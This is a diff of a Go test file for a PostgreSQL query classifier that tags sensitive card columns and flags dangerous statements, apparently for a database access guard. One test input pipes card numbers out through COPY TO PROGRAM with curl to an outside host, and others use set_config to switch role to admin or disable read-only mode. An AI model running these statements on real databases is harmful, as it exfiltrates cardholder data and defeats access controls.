@@ -9,6 +9,8 @@ import (
 	"strings"
 	"sync"
 	"testing"
+
+	pg_query "github.com/pganalyze/pg_query_go/v6"
 )
 
 // want is the expected classification of one statement. reads, writes and flags are always
@@ -46,42 +48,42 @@ var cases = []tc{
 	{q: "SELECT pan FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), funcs: none, cols: s("public.cards.pan:output")}},
 	{q: "SELECT pan AS x FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:output")}},
 	{q: "SELECT id FROM cards WHERE pan LIKE '4%'", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.id:output", "public.cards.pan:filter")}},
-	{q: "SELECT substr(pan, 9, 8) FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), funcs: s("substr"), cols: s("public.cards.pan:function")}},
-	{q: "SELECT reverse(pan) FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), funcs: s("reverse"), cols: s("public.cards.pan:function")}},
-	{q: "SELECT pan || '' FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), funcs: none, cols: s("public.cards.pan:function")}},
+	{q: "SELECT substr(pan, 9, 8) FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), funcs: s("substr"), cols: s("public.cards.pan:derived,function")}},
+	{q: "SELECT reverse(pan) FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), funcs: s("reverse"), cols: s("public.cards.pan:derived,function")}},
+	{q: "SELECT pan || '' FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), funcs: none, cols: s("public.cards.pan:derived,function")}},
 	{q: "SELECT id FROM cards ORDER BY pan", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.id:output", "public.cards.pan:order")}},
 	{q: "SELECT count(*) FROM cards GROUP BY pan", w: want{cmd: "SELECT", ro: true, reads: s(cards), funcs: s("count"), cols: s("public.cards.pan:group")}},
-	{q: "SELECT count(DISTINCT pan) FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), funcs: s("count"), cols: s("public.cards.pan:aggregate")}},
+	{q: "SELECT count(DISTINCT pan) FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), funcs: s("count"), cols: s("public.cards.pan:aggregate,derived")}},
 	{q: "SELECT c.id FROM cards c JOIN tokens t ON t.pan = c.pan", w: want{cmd: "SELECT", ro: true, reads: s(cards, "public.tokens"), cols: s("public.cards.id:output", "public.cards.pan:filter", "public.tokens.pan:filter")}},
 	{q: "SELECT * FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.*:output")}},
 	{q: "SELECT c.* FROM cards c, tokens t", w: want{cmd: "SELECT", ro: true, reads: s(cards, "public.tokens"), cols: s("public.cards.*:output")}},
-	{q: "SELECT pan::text FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:function")}},
-	{q: "SELECT CASE WHEN pan LIKE '4%' THEN 'visa' END FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:function")}},
+	{q: "SELECT pan::text FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:derived,function")}},
+	{q: "SELECT CASE WHEN pan LIKE '4%' THEN 'visa' END FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:derived,function")}},
 	{q: "SELECT pan FROM cards WHERE substr(pan, 1, 1) = '4'", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:filter,function,output")}},
 	{q: "SELECT DISTINCT ON (pan) id FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.id:output", "public.cards.pan:group")}},
-	{q: "SELECT string_agg(pan, ',' ORDER BY pan) FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:aggregate,order")}},
+	{q: "SELECT string_agg(pan, ',' ORDER BY pan) FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:aggregate,derived,order")}},
 	{q: "SELECT count(*) FILTER (WHERE pan LIKE '4%') FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:filter")}},
 	{q: "SELECT pan, count(*) FROM cards GROUP BY 1 HAVING count(pan) > 1", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:aggregate,filter,group,output")}},
 	{q: "SELECT row_number() OVER (PARTITION BY pan ORDER BY id) FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), funcs: s("row_number"), cols: s("public.cards.id:order", "public.cards.pan:group")}},
-	{q: "SELECT left(pan, 6) AS bin FROM cards ORDER BY bin", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:function,order")}},
-	{q: "SELECT pan FROM cards c JOIN old_cards USING (pan)", w: want{cmd: "SELECT", ro: true, reads: s(cards, "public.old_cards"), cols: s(".pan:output", "public.cards.pan:filter", "public.old_cards.pan:filter")}},
-	{q: "SELECT id FROM cards NATURAL JOIN old_cards", w: want{cmd: "SELECT", ro: true, reads: s(cards, "public.old_cards"), cols: s(".id:output", "public.cards.*:filter", "public.old_cards.*:filter")}},
-	{q: "SELECT row_to_json(c) FROM cards c", w: want{cmd: "SELECT", ro: true, reads: s(cards), funcs: s("row_to_json"), cols: s("public.cards.*:function", "public.cards.c:function")}},
+	{q: "SELECT left(pan, 6) AS bin FROM cards ORDER BY bin", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:derived,function,order")}},
+	{q: "SELECT pan FROM cards c JOIN old_cards USING (pan)", w: want{cmd: "SELECT", ro: true, reads: s(cards, "public.old_cards"), cols: s(".pan:derived", "public.cards.pan:filter", "public.old_cards.pan:filter")}},
+	{q: "SELECT id FROM cards NATURAL JOIN old_cards", w: want{cmd: "SELECT", ro: true, reads: s(cards, "public.old_cards"), cols: s(".id:derived", "public.cards.*:filter", "public.old_cards.*:filter")}},
+	{q: "SELECT row_to_json(c) FROM cards c", w: want{cmd: "SELECT", ro: true, reads: s(cards), funcs: s("row_to_json"), cols: s("public.cards.*:derived,function", "public.cards.c:derived,function")}},
 	{q: "SELECT a FROM cards AS c(a)", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.*:output")}},
 	{q: "SELECT public.cards.pan FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:output")}},
 	// subqueries and CTEs
 	{q: "SELECT x FROM (SELECT pan AS x FROM cards) s WHERE x LIKE '4%'", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:filter,output")}},
 	{q: "SELECT * FROM (SELECT * FROM cards) s WHERE s.pan LIKE '4%'", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.*:output", "public.cards.pan:filter")}},
-	{q: "SELECT b FROM (SELECT substr(pan, 1, 6) AS b FROM cards) s", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:function")}},
+	{q: "SELECT b FROM (SELECT substr(pan, 1, 6) AS b FROM cards) s", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:derived,function")}},
 	{q: "WITH c AS (SELECT pan FROM cards) SELECT pan FROM c ORDER BY pan", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:order,output")}},
 	{q: "WITH cards AS (SELECT 1 AS pan) SELECT pan FROM cards", w: want{cmd: "SELECT", ro: true, reads: nil, cols: none}},
-	{q: "WITH RECURSIVE r(n, p) AS (SELECT 1, pan FROM cards UNION ALL SELECT n + 1, p FROM r WHERE n < 3) SELECT p FROM r", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:output")}},
-	{q: "SELECT (SELECT pan FROM cards LIMIT 1) AS p", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:output")}},
-	{q: "SELECT ARRAY(SELECT pan FROM cards)", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:function")}},
+	{q: "WITH RECURSIVE r(n, p) AS (SELECT 1, pan FROM cards UNION ALL SELECT n + 1, p FROM r WHERE n < 3) SELECT p FROM r", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:derived,setop")}},
+	{q: "SELECT (SELECT pan FROM cards LIMIT 1) AS p", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:derived")}},
+	{q: "SELECT ARRAY(SELECT pan FROM cards)", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:derived,function")}},
 	{q: "SELECT id FROM orders WHERE card_id IN (SELECT id FROM cards WHERE pan LIKE '4%')", w: want{cmd: "SELECT", ro: true, reads: s(cards, "public.orders"), cols: s(".id:filter", ".pan:filter", "public.orders.card_id:filter", "public.orders.id:output")}},
 	{q: "SELECT id FROM cards WHERE EXISTS (SELECT 1 FROM tokens t WHERE t.pan = cards.pan)", w: want{cmd: "SELECT", ro: true, reads: s(cards, "public.tokens"), cols: s("public.cards.id:output", "public.cards.pan:filter", "public.tokens.pan:filter")}},
 	{q: "SELECT t.x FROM cards c, LATERAL (SELECT c.pan AS x) t", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:output")}},
-	{q: "SELECT pan FROM cards UNION SELECT pan FROM old_cards ORDER BY pan", w: want{cmd: "SELECT", ro: true, reads: s(cards, "public.old_cards"), cols: s("public.cards.pan:order,output", "public.old_cards.pan:order,output")}},
+	{q: "SELECT pan FROM cards UNION SELECT pan FROM old_cards ORDER BY pan", w: want{cmd: "SELECT", ro: true, reads: s(cards, "public.old_cards"), cols: s("public.cards.pan:derived,order,setop", "public.old_cards.pan:derived,order,setop")}},
 	{q: "SELECT v.column1 FROM (VALUES (1), (2)) v", w: want{cmd: "SELECT", ro: true, reads: nil, cols: none}},
 	{q: "SELECT * FROM generate_series(1, 3) g, cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), funcs: s("generate_series"), cols: s("public.cards.*:output")}},
 	// data-modifying CTEs, SELECT INTO, locking
@@ -112,9 +114,9 @@ var cases = []tc{
 	{q: "SELECT set_config('transaction_read_only', 'off', false)", w: want{cmd: "SELECT", funcs: s("set_config"), flags: s(FlagDangerousFunction, FlagSetsReadOnly, FlagSideEffectFunction), settings: s("transaction_read_only")}},
 	{q: "SELECT pg_catalog.set_config('role', 'admin', false)", w: want{cmd: "SELECT", funcs: s("pg_catalog.set_config"), flags: s(FlagDangerousFunction, FlagSetRole, FlagSideEffectFunction), settings: s("role")}},
 	{q: "SELECT set_config($1, 'x', false)", w: want{cmd: "SELECT", funcs: s("set_config"), flags: s(FlagDangerousFunction, FlagSetRole, FlagSetsReadOnly, FlagSideEffectFunction), settings: s("*")}},
-	{q: "SELECT my_func(pan) FROM cards", w: want{cmd: "SELECT", reads: s(cards), funcs: s("my_func"), flags: s(FlagUnknownFunction), cols: s("public.cards.pan:function")}},
+	{q: "SELECT my_func(pan) FROM cards", w: want{cmd: "SELECT", reads: s(cards), funcs: s("my_func"), flags: s(FlagUnknownFunction), cols: s("public.cards.pan:derived,function")}},
 	{q: "SELECT public.lower(name) FROM cards", w: want{cmd: "SELECT", reads: s(cards), funcs: s("public.lower"), flags: s(FlagUnknownFunction)}},
-	{q: "SELECT lower(name), now(), pg_catalog.upper(name), coalesce(name, ''), EXTRACT(year FROM created) FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), funcs: s("extract", "lower", "now", "pg_catalog.upper"), cols: s("public.cards.created:function", "public.cards.name:function")}},
+	{q: "SELECT lower(name), now(), pg_catalog.upper(name), coalesce(name, ''), EXTRACT(year FROM created) FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), funcs: s("extract", "lower", "now", "pg_catalog.upper"), cols: s("public.cards.created:derived,function", "public.cards.name:derived,function")}},
 	{q: "SELECT count(*), max(id), random(), gen_random_uuid(), current_setting('work_mem') FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), funcs: s("count", "current_setting", "gen_random_uuid", "max", "random")}},
 	// COPY
 	{q: "COPY (SELECT pan FROM cards) TO PROGRAM 'curl -d @- http://x'", w: want{cmd: "COPY", reads: s(cards), flags: s(FlagCopyProgram, FlagCopyTo), cols: s("public.cards.pan:copy")}},
@@ -234,13 +236,53 @@ var cases = []tc{
 	{q: "LOAD 'auto_explain'", w: want{cmd: "LOAD", flags: s(FlagDangerousFunction)}},
 	{q: "CREATE TABLE t AS EXECUTE p", w: want{cmd: "CREATE TABLE AS", ddl: true, writes: s("public.t"), flags: s(FlagOpaque)}},
 	{q: "SELECT (c).pan, (c).* FROM cards c", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.*:output", "public.cards.pan:output")}},
-	{q: "SELECT to_jsonb(c.*) FROM cards c", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.*:function")}},
-	{q: "SELECT json_agg(c) FROM cards c", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.*:aggregate", "public.cards.c:aggregate")}},
+	{q: "SELECT to_jsonb(c.*) FROM cards c", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.*:derived,function")}},
+	{q: "SELECT json_agg(c) FROM cards c", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.*:aggregate,derived", "public.cards.c:aggregate,derived")}},
 	{q: "SELECT pan FROM cards GROUP BY ROLLUP (pan)", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:group,output")}},
 	{q: "SELECT id FROM cards WHERE pan ~ '^4'", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.id:output", "public.cards.pan:filter")}},
 	{q: "WITH x AS (SELECT * FROM cards) SELECT pan FROM x", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:output")}},
 	{q: "SELECT * FROM (cards c JOIN tokens t USING (id)) AS j WHERE j.pan LIKE '4%'", w: want{cmd: "SELECT", ro: true, reads: s(cards, "public.tokens"), cols: s("public.cards.*:output", "public.cards.id:filter", "public.cards.pan:filter", "public.tokens.*:output", "public.tokens.id:filter", "public.tokens.pan:filter")}},
 	{q: "VALUES (1, 'a')", w: want{cmd: "SELECT", ro: true}},
+	// lineage: only a column PostgreSQL reports with its origin is output
+	{q: "SELECT cvv FROM cards UNION ALL SELECT NULL", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.cvv:derived,setop")}},
+	{q: "SELECT (SELECT cvv FROM cards LIMIT 1)", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.cvv:derived")}},
+	{q: "SELECT x FROM (SELECT cvv AS x FROM cards) s", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.cvv:output")}},
+	{q: "WITH c AS (SELECT cvv FROM cards) SELECT cvv AS x FROM c", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.cvv:output")}},
+	{q: "SELECT v.x FROM cards c, LATERAL (VALUES (c.cvv)) v(x)", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.cvv:derived")}},
+	{q: "SELECT x FROM cards c, LATERAL (SELECT c.cvv AS x) l", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s(".x:output", "public.cards.cvv:output")}},
+	{q: "SELECT * FROM (SELECT cvv FROM cards UNION SELECT '1') u", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.cvv:derived,setop")}},
+	{q: "SELECT ROW(cvv) FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.cvv:derived,function")}},
+	{q: "SELECT s FROM (SELECT cvv FROM cards) s", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s(".s:derived", "public.cards.cvv:derived")}},
+	{q: "SELECT array_agg(cvv), json_agg(cvv), string_agg(cvv, ',') FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.cvv:aggregate,derived")}},
+	{q: "SELECT format('%s', cvv), cvv || '', COALESCE(cvv, ''), CASE WHEN true THEN cvv END FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.cvv:derived,function")}},
+	{q: "SELECT j.cvv FROM (cards JOIN customers ON customers.card_id = cards.id) j", w: want{cmd: "SELECT", ro: true, reads: s(cards, "public.customers"), cols: s("public.cards.cvv:output", "public.cards.id:filter", "public.customers.card_id:filter", "public.customers.cvv:output")}},
+	{q: "SELECT cvv FROM cards FULL JOIN old_cards USING (cvv)", w: want{cmd: "SELECT", ro: true, reads: s(cards, "public.old_cards"), cols: s(".cvv:derived", "public.cards.cvv:filter", "public.old_cards.cvv:filter")}},
+	// inference: every clause that compares, orders or groups records it
+	{q: "WITH RECURSIVE r AS (SELECT id FROM cards) SEARCH DEPTH FIRST BY id SET ord SELECT id FROM r", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.id:function,order,output")}},
+	{q: "WITH RECURSIVE r(p) AS (SELECT pan FROM cards UNION ALL SELECT p FROM r) SEARCH BREADTH FIRST BY p SET ord SELECT 1 FROM r ORDER BY ord", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:function,order,setop")}},
+	{q: "WITH RECURSIVE r(p) AS (SELECT pan FROM cards UNION ALL SELECT p FROM r) CYCLE p SET loop USING path SELECT path FROM r", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:derived,filter,function,setop")}},
+	{q: "SELECT EXISTS (SELECT pan FROM cards INTERSECT SELECT '4242424242424242')", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:setop")}},
+	{q: "SELECT 1 WHERE EXISTS (SELECT pan FROM cards EXCEPT SELECT $1)", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:setop")}},
+	{q: "SELECT DISTINCT pan FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:group,output")}},
+	{q: "SELECT count(*) FROM cards GROUP BY CUBE (pan), GROUPING SETS ((cvv), ())", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.cvv:group", "public.cards.pan:group")}},
+	{q: "SELECT rank() OVER w FROM cards WINDOW w AS (PARTITION BY cvv ORDER BY pan)", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.cvv:group", "public.cards.pan:order")}},
+	{q: "SELECT percentile_disc(0.5) WITHIN GROUP (ORDER BY pan) FROM cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:aggregate,derived,order")}},
+	{q: "SELECT id FROM cards LIMIT (SELECT ascii(pan) FROM cards LIMIT 1) OFFSET length(current_user)", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s(".pan:function", "public.cards.id:output")}},
+	{q: "SELECT id FROM customers WHERE card_id IN (SELECT length(pan) FROM cards)", w: want{cmd: "SELECT", ro: true, reads: s(cards, "public.customers"), cols: s(".pan:filter,function", "public.customers.card_id:filter", "public.customers.id:output")}},
+	{q: "SELECT id FROM cards WHERE pan > ALL (SELECT '4')", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.id:output", "public.cards.pan:filter")}},
+	{q: "SELECT id FROM cards WHERE (pan, id) > ('4', 1)", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.id:filter,output", "public.cards.pan:filter")}},
+	{q: "SELECT id FROM cards WHERE pan = $1", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.id:output", "public.cards.pan:filter_eq_param")}},
+	{q: "SELECT id FROM cards WHERE $1::text = pan OR cards.pan = $2", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.id:output", "public.cards.pan:filter_eq_param")}},
+	{q: "SELECT id FROM cards WHERE pan = ANY($1)", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.id:output", "public.cards.pan:filter")}},
+	{q: "SELECT id FROM cards WHERE pan = $1::text[]", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.id:output", "public.cards.pan:filter")}},
+	{q: "SELECT id FROM cards WHERE pan = '4242424242424242'", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.id:output", "public.cards.pan:filter")}},
+	{q: "SELECT id FROM cards WHERE substr(pan, 1, 1) = $1", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.id:output", "public.cards.pan:filter,function")}},
+	{q: "SELECT id FROM cards TABLESAMPLE BERNOULLI (50) REPEATABLE (1) WHERE pan < '5'", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.id:output", "public.cards.pan:filter")}},
+	{q: "SELECT x.n FROM cards c, XMLTABLE('/r' PASSING xmlparse(document c.pan) COLUMNS n text PATH 'n') x", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:function")}},
+	{q: "SELECT jt.* FROM cards c, JSON_TABLE(c.pan::jsonb, '$' COLUMNS (n text PATH '$.n')) jt", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.pan:function")}},
+	{q: "INSERT INTO cards (id, pan) VALUES (1, 'x') ON CONFLICT (pan) WHERE cvv > '1' DO UPDATE SET holder = 'y' WHERE cards.exp < '1' RETURNING cvv", w: want{cmd: "INSERT", reads: s(cards), writes: s(cards), cols: s(".cvv:filter", "public.cards.cvv:returning", "public.cards.exp:filter", "public.cards.holder:write", "public.cards.id:write", "public.cards.pan:filter,write")}},
+	{q: "MERGE INTO cards c USING old_cards o ON c.pan = o.pan WHEN NOT MATCHED BY SOURCE AND c.cvv < '5' THEN DELETE RETURNING c.id", w: want{cmd: "MERGE", reads: s(cards, "public.old_cards"), writes: s(cards), cols: s("public.cards.cvv:filter", "public.cards.id:returning", "public.cards.pan:filter", "public.old_cards.pan:filter")}},
+	{q: "UPDATE cards SET holder = 'x' WHERE pan = $1", w: want{cmd: "UPDATE", writes: s(cards), cols: s("public.cards.holder:write", "public.cards.pan:filter_eq_param")}},
 	{q: "TABLE cards", w: want{cmd: "SELECT", ro: true, reads: s(cards), cols: s("public.cards.*:output")}},
 }
 
@@ -592,4 +634,49 @@ func TestConcurrentClassify(t *testing.T) {
 		}()
 	}
 	wg.Wait()
+}
+
+// TestWalkResolvesEveryColumnRef checks that the walk itself resolves every column reference
+// of the SELECT and DML cases: the sweep is a safety net for clauses the walker does not
+// know, not how known clauses get their usage.
+func TestWalkResolvesEveryColumnRef(t *testing.T) {
+	t.Parallel()
+	for _, c := range cases {
+		tree, err := pg_query.Parse(c.q)
+		if err != nil {
+			t.Fatalf("%s: %v", c.q, err)
+		}
+		for _, raw := range tree.Stmts {
+			switch raw.Stmt.GetNode().(type) {
+			case *pg_query.Node_SelectStmt, *pg_query.Node_InsertStmt, *pg_query.Node_UpdateStmt,
+				*pg_query.Node_DeleteStmt, *pg_query.Node_MergeStmt:
+			default:
+				continue
+			}
+			w := newWalker()
+			var st Statement
+			w.stmt(raw.Stmt, &st)
+			before := len(w.seen)
+			w.sweep(raw.Stmt)
+			if after := len(w.seen); after != before {
+				t.Errorf("%s: the sweep found %d column references the walk missed", c.q, after-before)
+			}
+		}
+	}
+}
+
+// TestSweepRecordsUnknownClauses checks the sweep on a clause the walk skips on purpose.
+func TestSweepRecordsUnknownClauses(t *testing.T) {
+	t.Parallel()
+	tree, err := pg_query.Parse("SELECT pan FROM cards")
+	if err != nil {
+		t.Fatal(err)
+	}
+	sel := tree.Stmts[0].Stmt.GetSelectStmt()
+	// A clause the walker does not read: the sweep still finds its column.
+	sel.IntoClause = &pg_query.IntoClause{Rel: &pg_query.RangeVar{Relname: "t"}, ViewQuery: pg_query.MakeColumnRefNode([]*pg_query.Node{pg_query.MakeStrNode("cvv")}, 0)}
+	st := classifyStmt(tree.Stmts[0].Stmt)
+	if got := colStrings(st.Columns); !slices.Contains(got, ".cvv:function") {
+		t.Errorf("columns = %q, want .cvv:function", got)
+	}
 }
